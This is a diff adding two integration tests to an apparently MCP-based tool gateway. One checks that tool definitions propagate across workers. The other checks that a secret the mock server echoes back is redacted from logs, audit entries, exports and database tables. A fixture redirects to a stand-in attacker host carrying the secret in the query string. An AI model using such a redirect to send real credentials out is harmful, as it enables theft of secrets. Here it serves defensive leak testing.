@@ -1,20 +1,26 @@
 """`/api/v1/tools/definitions`: tools of admins, used on any worker."""
 
 import asyncio
+import base64
 import json
 from collections.abc import AsyncGenerator
 from contextlib import AsyncExitStack
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import asyncpg
 import pytest
+from aiohttp import web
+from mcp import Client
+from mcp.types import ToolListChangedNotification
 from typer.testing import CliRunner, Result
 
 from gateway.cli.main import app
 from gateway.simulator import Simulator
 from tests.auth_helpers import Keyring
 from tests.eventually import eventually
+from tests.gateway.test_mcp_endpoint import connect_host
 from tests.stack import Gateway, Reply, serve_gateway, serve_tools
 from tests.tools_server.definitions import Api, arguments, serve_api
 from tests.tools_server.openapi_documents import CHAT
@@ -177,3 +183,86 @@ async def test_document_is_imported_at_the_command_line(gateway: Gateway, tmp_pa
     assert (await run_command(*options)).exit_code == 1
     entries = (await gateway.get("/api/v1/audit?action=definition.import")).body["items"]
     assert [entry["subject"] for entry in entries] == ["tool definition document"] * 2
+
+
+@pytest.mark.faults
+async def test_hosts_of_both_workers_hear_of_a_definition(workers: list[Gateway], api: Api) -> None:
+    first, second = workers
+    changed = asyncio.Event()
+
+    async def on_message(message: Any) -> None:
+        if isinstance(message, ToolListChangedNotification):
+            changed.set()
+
+    async def is_listed(host: Client, name: str) -> bool:
+        return name in {tool.name for tool in (await host.list_tools(cache_mode="refresh")).tools}
+
+    async with (
+        connect_host(first, "legacy", message_handler=on_message) as legacy,
+        connect_host(second, "auto") as modern,
+        modern.listen(tools_list_changed=True) as changes,
+    ):
+        assert not await is_listed(legacy, "count_stock")
+        definition = {"name": "count_stock", "description": "d", "url": f"{api.url}/stock"}
+        assert (await send(second, "POST", PATH, definition))[0] == 201
+        assert (await send(second, "POST", f"{PATH}/count_stock/publish", {}))[0] == 200
+        async with asyncio.timeout(60):
+            while not await is_listed(legacy, "count_stock"):
+                await changed.wait()
+                changed.clear()
+            while not await is_listed(modern, "count_stock"):
+                await anext(aiter(changes))
+        for host in (legacy, modern):
+            assert not (await host.call_tool("count_stock", {})).is_error
+    assert len(api.requests) == 2
+
+
+@pytest.mark.faults
+async def test_secret_is_in_no_log_audit_export_answer_or_prompt(
+    workers: list[Gateway], api: Api, db: asyncpg.Connection, capfd: pytest.CaptureFixture[str]
+) -> None:
+    """Let the server echo the secret in several encodings, in an error, and in a redirect."""
+    gateway, _ = workers
+    encoded = base64.b64encode(SECRET_VALUE.encode()).decode()
+    echoes: list[Any] = [
+        web.json_response({"a": SECRET_VALUE, "b": [encoded], SECRET_VALUE[::-1]: quote(SECRET_VALUE, safe="")}),
+        web.Response(status=500, text=f"key {SECRET_VALUE} is wrong", headers={"X-Echo": SECRET_VALUE}),
+        web.Response(status=302, headers={"Location": f"http://thief.example/?k={SECRET_VALUE}"}),
+        web.Response(body=b"x", headers={"Content-Type": f"image/{SECRET_VALUE}"}),
+        web.Response(status=302, headers={"Location": f"ftp://{SECRET_VALUE}/"}),
+    ]
+    api.answer = lambda _: echoes.pop(0)
+    definition = {
+        "name": "spy",
+        "description": "Spy.",
+        "url": f"{api.url}/spy",
+        "headers": {"Authorization": "Basic {base64.token}"},
+        "query": [{"name": "k", "value": "{secret.token}"}],
+        "secrets": {"token": SECRET_VALUE},
+        "annotations": {"read_only": True},
+    }
+    seen: list[Any] = [await send(gateway, "POST", PATH, definition)]
+    seen.append(await send(gateway, "POST", f"{PATH}/spy/publish", {}))
+    await eventually(lambda: lists_tool(gateway, "spy"))
+    seen += [(await gateway.chat("use spy with {}", user="ada")).body for _ in echoes[1:]]
+    seen.append(await send(gateway, "POST", f"{PATH}/spy/test", {}))
+    seen.append(await send(gateway, "PATCH", f"{PATH}/spy", {"secrets": {"token": SECRET_VALUE}, "revision": 99}))
+    seen.append(await send(gateway, "PATCH", f"{PATH}/spy", {"secrets": {"nobody": SECRET_VALUE}}))
+    for path in (
+        PATH,
+        f"{PATH}/spy",
+        "/api/v1/tools",
+        "/api/v1/audit",
+        "/api/v1/admin/user-data?user=local",
+        "/metrics",
+    ):
+        async with gateway.session.get(f"{gateway.base_url}{path}") as response:
+            seen.append(await response.text())
+    seen += [gateway.simulator.requests, capfd.readouterr()]
+    for table in ("turns", "turn_events", "tool_calls", "audit_log", "tools.http_tools", "tools.http_tool_secrets"):
+        seen += await db.fetch(f"SELECT t::text FROM {table} t")
+    dump = json.dumps(seen, default=str)
+    assert "[secret token]" in dump
+    for form in (SECRET_VALUE, encoded.rstrip("="), SECRET_VALUE[::-1], SECRET_VALUE.encode().hex()):
+        assert form not in dump
+    assert echoes == []
